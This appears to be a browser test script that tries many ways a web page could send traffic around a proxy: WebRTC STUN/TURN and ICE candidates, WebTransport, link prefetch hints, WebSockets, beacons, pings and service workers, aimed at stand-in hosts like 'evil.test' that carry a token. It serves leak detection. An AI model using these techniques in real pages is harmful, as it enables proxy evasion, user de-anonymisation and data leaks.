// Everything that a page can do to send something around the proxy, at once. Names
// carry TOKEN, so that whoever asks for them shows.
const token = 'TOKEN';
const done = [];
for (const url of ['stun:203.0.113.9:3478', 'stun:stun.' + token + '.evil.test:3478', 'stun:[2001:db8::9]:3478', 'stun:93.184.216.34:19302',
	'turn:203.0.113.9:3478?transport=udp', 'turn:data.' + token + '.evil.test?transport=tcp', 'turns:data2.' + token + '.evil.test:443?transport=tcp', 'turn:127.0.0.1:9001?transport=tcp']) {
	try {
		const p = new RTCPeerConnection({iceServers: [{urls: url, username: token, credential: 'secret'}]});
		p.createDataChannel('x');
		p.createOffer().then((o) => p.setLocalDescription(o));
		(window.peers ||= []).push(p);
		p.onicecandidate = (e) => e.candidate && done.push(e.candidate.candidate);
	} catch (e) { done.push(String(e)); }
}
// A peer that names its candidates: the browser would look the names up, and send.
(async () => {
	const a = new RTCPeerConnection(), b = new RTCPeerConnection();
	(window.peers ||= []).push(a, b);
	a.createDataChannel('x');
	await a.setLocalDescription(await a.createOffer());
	await b.setRemoteDescription(a.localDescription);
	await b.setLocalDescription(await b.createAnswer());
	await a.setRemoteDescription(b.localDescription);
	for (const host of ['203.0.113.9', '93.184.216.34', 'peer.' + token + '.evil.test', '0123-' + token + '.local', '10.77.0.1', '224.0.0.251']) {
		a.addIceCandidate({candidate: 'candidate:1 1 udp 2130706431 ' + host + ' 5353 typ host', sdpMid: '0'}).catch((e) => done.push(String(e)));
		a.addIceCandidate({candidate: 'candidate:2 1 tcp 2130706431 ' + host + ' 9001 typ host tcptype passive', sdpMid: '0'}).catch(() => {});
	}
})().catch((e) => done.push(String(e)));
if (window.WebTransport) for (const host of ['203.0.113.9', '93.184.216.34', 'quic.' + token + '.evil.test']) {
	try { new WebTransport('https://' + host + ':4433/', {serverCertificateHashes: [{algorithm: 'sha-256', value: new Uint8Array(32)}]}).ready.catch(() => {}); } catch (e) {}
}
for (const rel of ['dns-prefetch', 'preconnect', 'modulepreload', 'prefetch', 'prerender', 'preload']) for (const url of ['http://127.0.0.1:9001/hint', 'https://hint-' + rel + '.' + token + '.evil.test/', '//hint2-' + rel + '.' + token + '.evil.test:9001']) {
	if ((rel === 'modulepreload' || rel === 'preload' || rel === 'prefetch') && url.includes('evil')) continue; // public ones may be loaded
	document.head.append(Object.assign(document.createElement('link'), {rel, href: url, as: 'script'}));
}
for (const url of ['ws://127.0.0.1:9001/', 'ws://localhost:9001/', 'ws://[::1]:9001/', 'wss://127.0.0.1:443/', 'ws://10.77.0.1:9001/']) { try { new WebSocket(url); } catch (e) {} }
navigator.sendBeacon('http://127.0.0.1:9001/beacon', 'x');
new EventSource('http://127.0.0.1:9001/events');
fetch('http://127.0.0.1:9001/keepalive', {method: 'POST', body: 'x', mode: 'no-cors', keepalive: true}).catch(() => {});
const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://127.0.0.1:9001/ping'; document.body.append(a); a.click();
const frame = document.createElement('iframe'); document.body.append(frame);
const registered = async (w) => { try { const r = await w.navigator.serviceWorker.register('/sw.js'); return r ? 'registered' : 'nothing'; } catch (e) { return 'failed'; } };
window.workers = Promise.all([registered(window), registered(frame.contentWindow)]).then((x) => x.join());
new ReportingObserver(() => {});
'started'
